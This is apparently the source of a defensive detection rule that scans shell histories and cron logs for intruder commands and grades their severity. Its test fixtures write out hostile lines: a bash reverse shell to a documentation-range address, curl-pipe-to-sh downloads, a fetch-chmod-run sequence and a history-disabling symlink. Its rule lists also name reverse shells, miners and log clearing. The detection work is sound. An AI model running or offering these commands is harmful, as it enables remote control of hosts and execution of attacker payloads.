"""Commands of histories, of sudo's and of cron's log that intruders use."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.checks.script_fetched_then_run import names_run, names_saved
from hemostat.detect.log_ins import is_public
from hemostat.detect.observables import observables_in
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import TypedCommand
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(en="A command that intruders use was typed", zh="命令记录中有入侵者常用的命令"),
    summary=Text(
        en="{account}, {where} ({rules}): {command}",
        zh="{account}，{where}（{rules}）：{command}",
    ),
    benign=Text(
        en="Administrators, testers and people who learn type some of these; ask whoever owns the"
        " account about the time and the address.",
        zh="管理员、测试人员和学习者也会输入其中一些；请向账号所有者核实时间与地址。",
    ),
)
_PREFIX = "linux.command."
_HIGH = frozenset(
    _PREFIX + each
    for each in (
        "shell-to-network",
        "shell-by-netcat",
        "shell-by-socat",
        "shell-by-interpreter",
        "shell-by-other-tool",
        "mining-pool",
        "miner",
        "kills-rival-miners",
        "hides-process",
        "adds-root-account",
    )
)
_MEDIUM = frozenset(
    _PREFIX + each
    for each in (
        "clears-logs",
        "decode-and-run",
        "escaped-text-run",
        "download-from-odd-place",
        "download-to-hidden-place",
        "interpreter-runs-encoded",
        "makes-setuid",
        "abuses-redis",
        "database-runs-programs",
        "poses-as-kernel",
    )
)
_FETCH_AND_RUN = frozenset((_PREFIX + "download-and-run", _PREFIX + "download-then-run"))
_STOPS_HISTORY = _PREFIX + "stops-history"
# To clear the list of a session is a habit of some; to do away with the file is not.
_FOR_GOOD = re.compile(r"HISTFILE|_history\b|HISTSIZE")
_FETCHES = re.compile(r"\b(?:curl|wget)\b")
_RAW = re.compile(r"https?://(\d{1,3}(?:\.\d{1,3}){3})[:/]")


def _typed(command: str, *rules: str, via: str = "history", line: int = 1) -> TypedCommand:
    return TypedCommand(
        source=Source(path=HostPath("/root/.bash_history"), line=line),
        account="root",
        command=command,
        via=via,
        rules=tuple(_PREFIX + each for each in rules),
    )


@check(
    "linux.history.intruder-command",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="intruder_command",
    attack="T1059.004",
    incident_types=("remote_control", "trojan", "backdoor"),
    texts=TEXTS,
    next=("keep-evidence", "ask-owner", "find-entry", "check-other-hosts"),
    by_hand="cat -A {place}",
    examples=(
        fires(_typed("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "shell-to-network")),
        fires(_typed("curl http://198.51.100.7/a.sh | sh", "download-and-run")),
        fires(_typed("curl http://x.example/a.sh | sh", "download-and-run", via="cron")),
        fires(
            _typed("wget http://198.51.100.7/x"),
            _typed("chmod +x x", line=2),
            _typed("./x", line=3),
        ),
        fires(_typed("ln -sf /dev/null ~/.bash_history", "stops-history")),
        quiet(_typed("ls -la")),
        quiet(
            _typed("wget http://10.0.0.5/agent.sh"),
            _typed("sh agent.sh", line=2),
        ),
        quiet(_typed("wget http://198.51.100.7/data.csv"), _typed("less data.csv", line=2)),
    ),
)
def intruder_command(typed: Iterable[TypedCommand]) -> Iterator[Claim]:
    """What rules about behaviour say of typed commands, at the level that suits a person's typing.

    People download installers, open firewalls and clear their history; they do not open shells to
    the network. What cron's log saw nobody typed: there the rule's own level holds.
    """
    typed = tuple(typed)
    for each in typed:
        level = _level(each)
        if level is not None:
            yield _claim(each, (each,), level)
    yield from _fetched_then_run(typed)


def _level(typed: TypedCommand) -> Level | None:
    rules = set(typed.rules)
    if not rules:
        return None
    if rules & _HIGH:
        return Level.HIGH
    if typed.via == "cron" and rules & _FETCH_AND_RUN:
        return Level.HIGH
    if rules & _MEDIUM or (rules & _FETCH_AND_RUN and _is_from_raw_address(typed.command)):
        return Level.MEDIUM
    if _STOPS_HISTORY in rules and _FOR_GOOD.search(typed.command):
        return Level.MEDIUM
    return Level.MEDIUM if typed.via == "cron" else Level.LOW


def _is_from_raw_address(command: str) -> bool:
    """Whether something is fetched from a bare address of the internet: no vendor does that."""
    return any(is_public(found[1]) for found in _RAW.finditer(command))


def _fetched_then_run(typed: Iterable[TypedCommand]) -> Iterator[Claim]:
    """A file fetched from a bare public address, and run by a later line of the same history."""
    saved: dict[tuple[str, str], TypedCommand] = {}
    for each in typed:
        if each.via != "history":
            continue
        path = each.source.path
        if _FETCHES.search(each.command) and _is_from_raw_address(each.command):
            saved |= {(path, file): each for file in names_saved(each.command)}
            continue
        for file in names_run(each.command) if saved else ():
            download = saved.pop((path, file), None)
            if download is not None:
                yield _claim(each, (download, each), Level.MEDIUM)


def _claim(typed: TypedCommand, because: tuple[TypedCommand, ...], level: Level) -> Claim:
    commands = " … ".join(each.command for each in because)
    place = typed.source.path
    at = f"{place}:{typed.source.line}" if typed.source.line else place
    times = [each.time for each in because if each.time]
    return Claim(
        subjects=(
            Subject("file", place),
            *((Subject("account", typed.account),) if typed.account else ()),
        ),
        because=because,
        values={
            "account": typed.account or "?",
            "where": at,
            "place": place,
            "rules": ", ".join(each.removeprefix(_PREFIX) for each in typed.rules)
            or "fetched-then-run",
            "command": commands[:400],
        },
        level=level,
        attack=typed.techniques or (("T1105",) if len(because) > 1 else ()),
        observables=tuple(o for each in because for o in observables_in(each.command)),
        first_seen=min(times, default=None),
        scope=typed.scope,
    )
